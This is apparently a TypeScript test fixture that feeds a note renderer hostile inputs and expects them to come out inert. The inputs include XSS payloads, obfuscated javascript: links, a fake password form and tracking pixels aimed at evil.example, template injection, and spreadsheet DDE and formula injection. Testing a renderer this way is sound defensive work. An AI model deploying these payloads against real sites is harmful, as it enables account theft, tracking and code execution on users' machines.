/** Group B: words in a note that a browser, a build or a spreadsheet would obey. */
import { FIELDS, inPlace, note, WORDS, type BadInput } from './bad-input.ts';

const said = (payload: string): string => `I write number 4 when the kids are asleep ${payload} since nobody needs me then.`;

/** The same payload within the customer's words, and as a block of its own after them. */
function inert(id: string, what: string, payload: string, shown = payload): BadInput[] {
  return [
    { id, what: `${what}, among words`, ends: ['INERT'], files: inPlace(note(said(payload))), shown },
    { id, what: `${what}, on a line of its own`, ends: ['INERT'], files: inPlace(note(`${WORDS}\n\n${payload}\n\nThat is all of it.`)), shown },
  ];
}

const exact = (id: string, what: string, words: string): BadInput => ({ id, what, ends: ['EXACT'], files: inPlace(note(words)), shown: words });

/** What a note may say. */
export const noteBody: readonly BadInput[] = [
  ...inert('B01', 'a script', '<script>globalThis.hacked = 1</script>'),
  ...inert('B01', 'a script that is never closed', '<script>globalThis.hacked = 1'),
  ...inert('B01', 'a script in capitals', '<SCRIPT SRC="https://evil.example/x.js"></SCRIPT>'),
  ...inert('B02', 'an event handler', '<img src=x onerror="globalThis.hacked = 1">'),
  ...inert('B02', 'an event handler on formatting', '<b onmouseover="globalThis.hacked = 1">bold</b>', '<b onmouseover="globalThis.hacked = 1">bold'),
  ...inert('B02', 'an event handler on details', '<details open ontoggle=hacked=1>x</details>', '<details open ontoggle=hacked=1>x'),
  ...inert('B03', 'svg', '<svg onload="globalThis.hacked = 1"><script>hacked=1</script></svg>'),
  ...inert('B03', 'mathml', '<math><script>hacked=1</script></math>'),
  ...inert('B04', 'a javascript link', '[here](javascript:globalThis.hacked=1)', 'here'),
  ...inert('B04', 'a javascript autolink', '<javascript:globalThis.hacked=1>', 'javascript:globalThis.hacked=1'),
  ...inert('B04', 'a javascript anchor', '<a href="javascript:globalThis.hacked=1">here</a>', '<a href="javascript:globalThis.hacked=1">here'),
  ...inert('B04', 'a data link', '[here](data:text/html,<script>hacked=1</script>)', 'here'),
  ...inert('B05', 'an entity in the scheme', '[here](java&#115;cript:globalThis.hacked=1)', 'here'),
  ...inert('B05', 'a tab in the scheme', '[here](<java&Tab;script:globalThis.hacked=1>)', 'here'),
  ...inert(
    'B05',
    'an entity in the scheme of an anchor',
    '<a href="java&#x73;cript:globalThis.hacked=1">here</a>',
    '<a href="java&#x73;cript:globalThis.hacked=1">here',
  ),
  ...inert('B06', 'an iframe', '<iframe src="https://evil.example/"></iframe>'),
  ...inert('B06', 'an iframe with a document', '<iframe srcdoc="<script>parent.hacked=1</script>"></iframe>'),
  ...inert('B07', 'a style', '<style>body { display: none }</style>'),
  ...inert(
    'B07',
    'a style on formatting',
    '<span style="position:fixed;inset:0;background:red">over</span>',
    '<span style="position:fixed;inset:0;background:red">over',
  ),
  ...inert('B08', 'a form', '<form action="https://evil.example/"><input name="password"><button>Sign in</button></form>'),
  ...inert('B09', 'a base', '<base href="https://evil.example/">'),
  ...inert('B10', 'a refresh', '<meta http-equiv="refresh" content="0;url=https://evil.example/">'),
  ...inert('B11', 'a pixel in Markdown', '![](https://evil.example/pixel.gif)'),
  ...inert('B11', 'a pixel in HTML', '<img src="https://evil.example/pixel.gif" width="1" height="1">'),
  ...inert('B11', 'a pixel by reference', '![pixel][1]\n\n[1]: https://evil.example/pixel.gif', 'evil.example/pixel.gif'),
  ...inert('B11', 'a prefetch', '<link rel="prefetch" href="https://evil.example/">'),
  ...inert('B12', 'a break-out of inline JSON', '</script><script>globalThis.hacked = 1</script>'),
  ...inert('B12', 'a break-out of inline JSON with a comment', '<!--<script>', '<!--<script>'),
  ...inert('B13', 'the end of a comment', '--> and --!> too'),
  ...inert('B13', 'CDATA', ']]> and <![CDATA[ x ]]>', ']]>'),
  ...inert('B13', 'a comment', '<!-- hidden --> seen', 'seen'),
  ...inert('B14', 'names that clobber', '<form name="body"><input name="attributes"></form>'),
  ...inert('B14', 'ids that clobber', '<a id="getElementById"></a><a id="location" name="href"></a>.', '.'),
  ...inert('B15', 'an expression', '{globalThis.hacked = 1}'),
  ...inert('B15', 'an expression in HTML', '<b>{process.exit(1)}</b>', '{process.exit(1)}'),
  ...inert('B16', 'what MDX does not build', 'a < b and <3 and <5 €'),
  ...inert('B17', 'a brace that is never closed', '{ and } and {{'),
  ...inert('B18', 'an import', 'import fs from "node:fs"'),
  ...inert('B18', 'an export', 'export const hacked = 1'),
  ...inert('B19', 'a component', '<Fragment set:html="x" />'),
  ...inert('B19', 'an element that Astro knows', '<slot /><template>x</template>'),
  exact('B20', 'straight quote marks, dots and dashes', 'I write number 4 when the kids are "asleep" -- or \'nearly\' so... since (c) nobody needs me then.'),
  exact('B20', 'curly quote marks', 'I write “number 4” when the kids are ‘asleep’ – since nobody needs me then…'),
  ...inert('B21', 'a formula', '=1+1'),
  ...inert('B21', 'a formula with a link', '=HYPERLINK("https://evil.example/"; "x")'),
  ...inert('B22', 'a DDE formula', "=cmd|' /C calc'!A0"),
  exact('B23', 'a plus at the start', '+49 days late, and I write it when the kids are asleep, since nobody needs me.'),
  exact('B23', 'a minus at the start', '-3 of us, and I write it when the kids are asleep, since nobody needs me.'),
  exact('B23', 'an at at the start', '@work it waits, so I write it when the kids are asleep, since nobody needs me.'),
  ...inert('B24', 'templates', '{{constructor.constructor("hacked=1")()}} ${hacked=1} <%= x %> {% raw %} #{x} [[x]]'),
  ...inert('B25', 'a fence', '```js\nglobalThis.hacked = 1\n```', 'globalThis.hacked = 1'),
  ...inert('B25', 'a fence that is never closed', '~~~mdx\n<b>x</b>', '~~~mdx').slice(0, 1),
  ...inert('B25', 'a fence in a fence', '````\n```\n<b>x</b>\n```\n````', '```'),
  {
    id: 'B01',
    what: 'a script in a heading',
    ends: ['INERT'],
    files: inPlace(note(WORDS).replace('**Dana:**', '# <script>globalThis.hacked=1</script>\n\n**Dana:**')),
    shown: '<script>globalThis.hacked=1</script>',
  },
  { id: 'B01', what: 'a script in a title', ends: ['INERT'], files: inPlace(note(WORDS, `${FIELDS}\ntitle: <script>globalThis.hacked=1</script>`)) },
  { id: 'B01', what: 'a script as a label', ends: ['INERT', 'REJECT'], files: inPlace(note(`${WORDS}\n\n**<script>hacked=1</script>:** x`)) },
];
